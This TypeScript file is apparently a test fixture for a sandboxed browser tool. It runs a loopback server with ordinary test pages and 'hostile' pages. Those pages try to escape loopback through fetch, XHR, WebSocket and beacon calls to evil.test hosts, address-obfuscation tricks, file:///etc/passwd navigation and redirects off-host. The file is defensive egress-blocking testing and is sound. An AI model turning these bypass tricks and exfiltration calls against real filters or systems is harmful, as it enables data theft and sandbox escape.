import http from 'node:http';
import type { AddressInfo } from 'node:net';

/** A small site on 127.0.0.1 for browser tests; `hits` lists every path it was asked for. */
export interface WebServer {
  port: number;
  origin: string;
  hits: string[];
  close(): Promise<void>;
}

/** A value the browser tests register as a secret; /long-secret logs it across the console cut. */
export const PAGE_SECRET = 'sk-page-secret-0123456789abcdef';

const PAGES: Record<string, string> = {
  // A button that changes text, an input echoed into the page, console output, a long page.
  '/': `<!doctype html><title>nightshift test page</title>
<style>body{margin:0;font:20px sans-serif} #go{position:absolute;left:50px;top:50px;width:200px;height:60px}
#name{position:absolute;left:50px;top:150px;width:300px;height:40px} #bottom{position:absolute;top:2600px}</style>
<button id="go" onmouseenter="console.log('hovered')" onclick="document.getElementById('status').textContent='clicked'; console.log('button clicked')">Go</button>
<input id="name" oninput="document.getElementById('echo').textContent='hello ' + this.value; console.log('echo: ' + document.getElementById('echo').textContent)">
<p id="status" style="position:absolute;top:220px;left:50px">waiting</p>
<p id="echo" style="position:absolute;top:260px;left:50px"></p>
<div id="bottom">the bottom of the page</div>
<script>console.log('page loaded');
let t; window.addEventListener('scroll', () => { clearTimeout(t); t = setTimeout(() => console.log('scrollY ' + window.scrollY), 50); });
window.addEventListener('resize', () => console.log('viewport ' + innerWidth + 'x' + innerHeight));</script>`,
  '/other': '<!doctype html><title>other</title><p>another loopback page</p>',
  // A console line longer than the session keeps, with a secret where it is cut.
  '/long-secret': `<!doctype html><title>long</title><script>console.log('${'x'.repeat(990)}' + '${PAGE_SECRET}' + '${'y'.repeat(50)}');</script>`,
};

/**
 * Pages that try to reach beyond loopback in every way a page can. `__PORT__` is the server's own
 * port (for the allowed decimal-address request).
 */
const HOSTILE: Record<string, string> = {
  '/hostile': `<!doctype html><title>hostile</title>
<img src="http://evil.test/img.png">
<img src="http://127.0.0.1.evil.test/dotted.png">
<img src="http://127.0.0.1@evil.test/userinfo.png">
<img src="http://192.0.2.1/testnet.png">
<img src="http://[::ffff:192.0.2.1]/mapped.png">
<img src="http://[2001:db8::1]/v6.png">
<img src="http://0.0.0.0:__PORT__/any.png">
<img src="http://2130706433:__PORT__/decimal-loopback.png">
<link rel="preconnect" href="http://preconnect.evil.test">
<link rel="stylesheet" href="https://evil.test/style.css">
<script>
fetch('http://fetch.evil.test/x?secret=1').catch(() => console.log('fetch blocked'));
const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://xhr.evil.test/'); xhr.onerror = () => console.log('xhr blocked'); xhr.send();
const ws = new WebSocket('ws://ws.evil.test/'); ws.onerror = () => console.log('websocket blocked');
window.open('http://popup.evil.test/');
navigator.sendBeacon('http://beacon.evil.test/');
</script>`,
  '/to-file': `<!doctype html><title>to-file</title><script>location.href = 'file:///etc/passwd';</script>`,
  '/frames': `<!doctype html><title>frames</title>
<iframe src="chrome://version"></iframe><iframe src="file:///etc/hostname"></iframe>
<iframe src="data:text/html,<script>fetch('http://data-frame.evil.test/')</script>"></iframe>`,
};

/** Serves on `host` (127.0.0.1, or `::1` for IPv6 loopback). */
export async function startWebServer(host = '127.0.0.1'): Promise<WebServer> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    hits.push(url.pathname);
    const port = (server.address() as AddressInfo).port;
    if (url.pathname === '/redirect-out') {
      // Routing sees only the first request: the proxy must stop this hop.
      res.writeHead(302, { location: 'http://192.0.2.1/after-redirect' });
      res.end();
      return;
    }
    if (url.pathname === '/redirect-loopback-port') {
      // Another port on loopback: only the proxy sees the hop, so loopback must go through it too.
      res.writeHead(302, { location: `http://127.0.0.1:${url.searchParams.get('to') ?? ''}/other-port` });
      res.end();
      return;
    }
    if (url.pathname === '/redirect-in') {
      res.writeHead(302, { location: `http://127.0.0.1:${port}/other` });
      res.end();
      return;
    }
    const page = PAGES[url.pathname] ?? HOSTILE[url.pathname]?.replaceAll('__PORT__', String(port));
    if (page === undefined) {
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not found');
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    port,
    origin: `http://${host.includes(':') ? `[${host}]` : host}:${port}`,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
